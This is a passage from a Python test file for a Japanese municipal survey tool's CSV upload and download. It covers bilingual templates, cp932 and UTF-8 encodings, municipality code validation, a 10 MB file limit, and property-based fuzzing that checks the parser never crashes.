    assert " / " in str(info.value) and any("\u3040" <= c <= "\u9fff" for c in str(info.value))


def test_export_accepts_integer_percentages_and_writes_them_as_floats() -> None:
    entry = MunicipalityEntry(None, "a", "town", {"standardization_completed": 50})
    assert parse(entries_to_csv_bytes([entry], VOCABULARY)) == [
        MunicipalityEntry(None, "a", "town", {"standardization_completed": 50.0})
    ]


def test_export_rejects_unknown_language() -> None:
    with pytest.raises(ValueError, match="language"):
        entries_to_csv_bytes([], VOCABULARY, language="fr")


def test_export_of_nothing_is_a_header() -> None:
    data = entries_to_csv_bytes([], VOCABULARY)
    assert data.decode("utf-8-sig").count("\r\n") == 1


@pytest.mark.parametrize("language", ["ja", "en"])
@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
@pytest.mark.parametrize("multiple", [True, False])
def test_template_parses_once_its_example_row_is_filled_in(language: str, encoding: str, multiple: bool) -> None:
    data = template_csv_bytes(VOCABULARY, language=language, encoding=encoding)
    assert data.startswith(codecs.BOM_UTF8) == (encoding == "utf-8-sig")
    assert data.count(b"\r\n") == 2  # header + one example row
    example = ("千代田区（記入例）" if language == "ja" else "Chiyoda (example)").encode(encoding.removesuffix("-sig"))
    [entry] = parse(data.replace(example, "千代田区".encode(encoding.removesuffix("-sig"))), multiple=multiple)
    assert entry.municipality_code == "131016" and entry.entity_type == "ward"
    assert set(entry.answers) == {i.item_code for i in ITEMS}  # shows every column filled in
    assert entry.municipality_name == "千代田区"


@pytest.mark.parametrize("language", ["ja", "en"])
@pytest.mark.parametrize("multiple", [True, False])
def test_the_templates_example_row_left_in_is_skipped_and_said(language: str, multiple: bool) -> None:
    template = template_csv_bytes(VOCABULARY, language=language).decode("utf-8-sig").splitlines()
    example = template[1]
    found = problems(utf8(*template), multiple=multiple)
    assert [p.code for p in found] == ["example_row_skipped", "no_rows"]
    assert found[0].row == 2 and "記入例" in found[0].message_ja and "example" in found[0].message_en
    real = example.replace("千代田区（記入例）" if language == "ja" else "Chiyoda (example)", "中央区").replace("131016", "131024")
    upload = read_upload(utf8(template[0], example, real), VOCABULARY, multiple=multiple)
    assert [entry.municipality_name for entry in upload.entries] == ["中央区"]
    assert [(p.row, p.code) for p in upload.skipped] == [(2, "example_row_skipped")]


def test_template_header_is_in_the_requested_language() -> None:
    ja = template_csv_bytes(VOCABULARY).decode("utf-8-sig").splitlines()[0].split(",")
    en = template_csv_bytes(VOCABULARY, language="en").decode("utf-8-sig").splitlines()[0].split(",")
    assert ja == ["団体コード", "団体名", "団体区分", *(i.label_ja for i in ITEMS)]
    assert en == ["Municipality code", "Municipality name", "Entity type", *(i.label_en for i in ITEMS)]


# --- properties ------------------------------------------------------------------------------

CSV_TOKENS = st.sampled_from(
    ["団体コード", "団体名", "団体区分", "municipality_code", "AIの導入", "標準化 完了率", "ai_adoption",
     "telework_staff_band", "131016", "11002", "131015", "特別区", "都道府県", "町", "はい", "いいえ", "×",
     "29.6", "120", "不明", "=1+1", "'=1", '"', "\n", "", " ", "\x00", "𠮷", "\ufeff", ";", "\t"]
)


def assert_well_formed(data: bytes, multiple: bool) -> None:
    try:
        entries = parse_upload(data, VOCABULARY, multiple=multiple)
    except UploadError as err:
        assert err.problems
        for p in err.problems:
            assert isinstance(p, Problem) and isinstance(p.code, str) and p.code
            assert p.message_ja.strip() and p.message_en.strip()
        return
    assert entries and (multiple or len(entries) == 1)
    for entry in entries:
        assert entry.entity_type in ENTITY_TYPES


@settings(database=None, deadline=None, max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=3000), st.sampled_from([b"", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, b"PK", b"a,b\r\n"]), st.booleans())
def test_arbitrary_bytes_never_crash(data: bytes, prefix: bytes, multiple: bool) -> None:
    assert_well_formed(prefix + data, multiple)


@settings(database=None, deadline=None, max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.lists(st.one_of(CSV_TOKENS, st.text(max_size=6)), min_size=1, max_size=6), min_size=1, max_size=6),
    st.sampled_from(["utf-8", "utf-8-sig", "cp932", "utf-16"]),
    st.booleans(),
)
def test_csv_shaped_input_never_crashes(rows: list[list[str]], encoding: str, multiple: bool) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    try:
        data = buffer.getvalue().encode(encoding)
    except UnicodeEncodeError:
        assume(False)
    assert_well_formed(data, multiple)


NAMES = st.text(st.characters(exclude_categories=["Cs", "Cc"], include_characters="\t\r\n"), min_size=1, max_size=12).filter(
    str.strip
)
ANSWERS = st.fixed_dictionaries(
    {},
    optional={
        i.item_code: (
            st.booleans() if i.kind == "yes_no"
            else st.sampled_from(sorted(BANDS)) if i.kind == "band"
            else st.floats(0, 100, allow_nan=False)
        )
        for i in ITEMS
    },
)
CODES = st.from_regex(r"(0[1-9]|[1-3][0-9]|4[0-7])[0-9]{3}", fullmatch=True).map(lambda f: f + str(check_digit(f)))


@st.composite
def entries(draw: st.DrawFn) -> list[MunicipalityEntry]:
    count = draw(st.integers(1, 5))
    names = draw(st.lists(NAMES, min_size=count, max_size=count, unique_by=str.strip))
    codes_ = draw(st.lists(st.one_of(st.none(), CODES), min_size=count, max_size=count, unique_by=lambda c: c or object()))
    result = []
    for name, code in zip(names, codes_):
        entity_type = draw(st.sampled_from(sorted(ENTITY_TYPES)))
        if code:  # keep the prefecture/000 rule
            entity_type = "pref" if code[2:5] == "000" else ("town" if entity_type == "pref" else entity_type)
        result.append(MunicipalityEntry(code, name, entity_type, draw(ANSWERS)))
    return result


@settings(database=None, deadline=None, max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(entries(), st.sampled_from(["ja", "en"]))
def test_download_then_upload_reproduces_entries(original: list[MunicipalityEntry], language: str) -> None:
    data = entries_to_csv_bytes(original, VOCABULARY, language=language)
    assert parse(data) == original


def test_unknown_government_codes_are_the_valid_codes_missing_from_the_list():
    from benchmark.vocabulary import MunicipalityEntry, unknown_government_codes
    entries = [MunicipalityEntry(code, "", "town") for code in ("192015", "019992", None, "019992")]
    assert unknown_government_codes(entries, frozenset({"192015"})) == ["019992"]
    assert unknown_government_codes(entries, frozenset()) == []  # no list, no judgement


def test_the_limit_is_the_ten_megabytes_the_page_states_in_bytes() -> None:
    # The browser counts 10 MB as 10,000,000 bytes: a file one byte over is refused here, with the app's message.
    head = b"entity_type,ai_adoption\r\ntown,1\r\n"
    data = head + b"\r\n" * ((10_000_001 - len(head)) // 2) + b" " * ((10_000_001 - len(head)) % 2)
    assert len(data) == 10_000_001
    p = only_problem(data)
    assert p.code == "file_too_large" and "10,000,000バイト" in p.message_ja and "10,000,000 bytes" in p.message_en
